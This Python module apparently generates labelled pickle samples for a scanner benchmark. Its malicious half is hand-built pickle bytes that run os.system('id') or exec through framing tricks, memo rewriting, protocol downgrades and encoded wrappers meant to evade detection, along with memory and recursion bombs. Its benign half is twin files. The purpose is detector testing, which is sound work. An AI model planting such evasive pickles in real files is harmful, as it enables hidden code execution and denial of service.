"""Issue 17 pickle-side samples: framing, structural anomalies, DoS, encoded payloads, allow-list precision.

Shape every ``corpus_*17.py`` module follows (``corpus.py`` imports each one present)::

    from corpus import Sample            # TypedDict: path, label, format, technique

    def write_samples(root: Path) -> list[Sample]:
        # write each file to root / label / format / name  (label: "benign" or "malicious")
        # return one record per file, path relative to root: {"path": "malicious/pickle/x.pkl", ...}

Every malicious sample here has a benign twin of the same class, so a scanner that flags the class by
its shape rather than by what it does loses points on the benign side.
"""

from __future__ import annotations
import __future__

import base64
import bz2
import collections
import collections.abc
import gzip
import lzma
import pickle
import struct
import sys
import zlib
from pathlib import Path

import numpy as np

sys.path.insert(0, str(Path(__file__).parent))
from corpus import Sample  # the benchmark directory is not a package


def _put(root: Path, out: list[Sample], rel: str, data: bytes, label: str, fmt: str, technique: str) -> None:
    path = root / label / fmt / rel
    path.parent.mkdir(parents=True, exist_ok=True)
    path.write_bytes(data)
    out.append({"path": str(path.relative_to(root)), "label": label, "format": fmt, "technique": technique})


def _u(text: str) -> bytes:
    raw = text.encode()
    return b"\x8c" + bytes([len(raw)]) + raw


def _frame(body: bytes) -> bytes:
    return b"\x95" + struct.pack("<Q", len(body)) + body


SYSTEM_P0 = b"cos\nsystem\n(S'id'\ntR."
SYSTEM_P2 = b"\x80\x02cos\nsystem\nX\x02\x00\x00\x00id\x85R."


def _laughs(levels: int) -> bytes:
    out = bytearray(b"\x80\x02]r\x00\x00\x00\x00K\x01a0")
    for i in range(1, levels + 1):
        out += b"(" + (b"j" + struct.pack("<I", i - 1)) * 10 + b"lr" + struct.pack("<I", i) + b"0"
    return bytes(out + b"j" + struct.pack("<I", levels) + b".")


def malicious() -> dict[str, tuple[bytes, str]]:
    """name -> (bytes, technique)."""
    out: dict[str, tuple[bytes, str]] = {
        # 1. framing
        "frame_cfile_hidden.pkl": (
            b"\x80\x04" + _frame(b"\x8c\x0cAAAA") + b"BBBBBBBBN.XX" + SYSTEM_P0,
            "payload read only by the C unpickler on a file (frame ends inside a string)",
        ),
        "frame_nested.pkl": (
            b"\x80\x04" + _frame(b"}" + _frame(_u("os") + _u("system") + b"\x93" + _u("id") + b"\x85R.")),
            "frame opened inside a frame around os.system",
        ),
        "frame_tail_next.pkl": (
            b"\x80\x04" + _frame(b"N.C" + bytes([len(SYSTEM_P2)])) + SYSTEM_P2 + b".",
            "frame outlives STOP; the framed reader's next pickle is os.system",
        ),
        # 2. structure
        "truncated_exec.pkl": (
            b"\x80\x04" + _u("builtins") + _u("exec") + b"\x93" + _u("print(1)"),
            "truncated pickle naming builtins.exec",
        ),
        "truncated_exec_p0.pkl": (b"cbuiltins\nexec\n(S'print(1)'\n", "truncated protocol-0 exec"),
        "proto_downgrade_reduce.pkl": (
            b"\x80\x05\x80\x02c__builtin__\nreduce\n.",
            "PROTO downgrade + py2 rename",
        ),
        "dict_own_key.pkl": (b"\x80\x02}q\x00h\x00h\x00K\x01\x86s.", "dict used as its own key"),
        "memo_rewrite_global.pkl": (
            b"\x80\x04"
            + _u("os")
            + b"\x94"
            + _u("path")
            + b"q\x01"
            + _u("system")
            + b"q\x01h\x00h\x01\x93"
            + _u("id")
            + b"\x85R.",
            "memo key rewritten to build os.system",
        ),
        # 3. denial of service
        "billion_laughs.pkl": (_laughs(13), "memo expansion to 10^13 objects"),
        "deep_tuples.pkl": (b"\x80\x02N" + b"\x85" * 50_000 + b".", "tuple nested 50,000 deep"),
        "huge_bytearray.pkl": (b"\x80\x02cbuiltins\nbytearray\nJ\xff\xff\xff\x7f\x85R.", "bytearray(2**31)"),
        # 7 / red team
        "compat_thread.pkl": (b"\x80\x02cthread\nstart_new_thread\n.", "py2 name mapped to _thread"),
        "abc_sys.pkl": (b"ccollections.abc\nsys\n.", "collections.abc.sys lookalike"),
        "build_on_global.pkl": (
            b"\x80\x02ccollections\nOrderedDict\nN}X\x08\x00\x00\x00fromkeyscbuiltins\nlen\ns\x86b.",
            "BUILD sets attributes of a class",
        ),
        "p0_pickle_in_bytes.pkl": (
            pickle.dumps({"state": SYSTEM_P0 + b" " * 30}, protocol=4),
            "protocol-0 pickle kept as bytes",
        ),
        "code_b64.pkl": (
            pickle.dumps({"hook": base64.b64encode(b"import os\nos.system('id')\n").decode()}, protocol=4),
            "base64 Python code calling os.system",
        ),
        "short_pickle_in_bytes.pkl": (
            pickle.dumps({"x": SYSTEM_P2}, protocol=4),
            "23-byte pickle kept as bytes",
        ),
        "p0_string_b64.pkl": (
            pickle.dumps({"x": base64.b64encode(SYSTEM_P2 + bytes(30)).decode()}, protocol=0),
            "base64 pickle in a protocol-0 STRING",
        ),
        "frame_cross_breaks_straight.pkl": (
            b"\x80\x04" + _frame(b"\x8c\x0c\xff\xff\xff\xff") + b"BBBBBBBBBBBB" + SYSTEM_P0,
            "frame crossing that is invalid UTF-8 in the straight reading",
        ),
        "code_after_padding.pkl": (
            pickle.dumps({"x": "#" * 600 + "\nimport os\nos.system('id')\n"}, protocol=4),
            "Python code after 600 characters of comment",
        ),
    }
    encoders = {
        "b64": base64.b64encode,
        "b64_zlib": lambda b: base64.b64encode(zlib.compress(b)),
        "hex": lambda b: b.hex().encode(),
        "b85_bz2": lambda b: base64.b85encode(bz2.compress(b)),
        "gzip": gzip.compress,
        "xz": lzma.compress,
    }
    for name, enc in encoders.items():
        blob = enc(SYSTEM_P2 + b"\x00" * 40)
        out[f"encoded_{name}.pkl"] = (
            pickle.dumps({"config": blob.decode("latin-1"), "n": 3}, protocol=4),
            f"os.system pickle encoded ({name}) in a string",
        )
    return out


def benign() -> dict[str, tuple[bytes, str]]:
    rng = np.random.default_rng(0)
    objs = {
        "arrays": {"w": rng.standard_normal((64, 32)).astype(np.float32), "b": np.zeros(32)},
        "records": [{"k": i, "v": str(i), "t": (i, float(i))} for i in range(2000)],
        "blobs": {"blob": bytes(range(256)) * 400, "text": "x" * 70_000, "nested": [[[1, 2], (3, {4})]]},
        "inert": [
            len,
            max,
            min,
            sorted,
            range(3),
            collections.abc.Mapping,
            __future__.annotations,
            ValueError("x"),
        ],
        "shared": [{"w": list(range(50))}] * 2000,
        "encoded_data": {
            "digest": "9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
            "random_b64": base64.b64encode(rng.bytes(300)).decode(),
            "json_zlib": zlib.compress(b'{"lr": 0.01, "epochs": 3}' * 20),
            "pickle_b64": base64.b64encode(pickle.dumps({"a": [1, 2]}, protocol=4)).decode(),
        },
    }
    out: dict[str, tuple[bytes, str]] = {}
    for name, obj in objs.items():
        for proto in (0, 2, 4, 5):
            out[f"{name}_p{proto}.pkl"] = (
                pickle.dumps(obj, protocol=proto),
                f"pickle.dumps protocol {proto}",
            )
    return out


def write_samples(root: Path) -> list[Sample]:
    """Write the samples under ``root`` and return their records."""
    out: list[Sample] = []
    for label, samples in (("malicious", malicious()), ("benign", benign())):
        for name, (data, technique) in samples.items():
            _put(root, out, f"issue17/{name}", data, label, "pickle", technique)
    return out
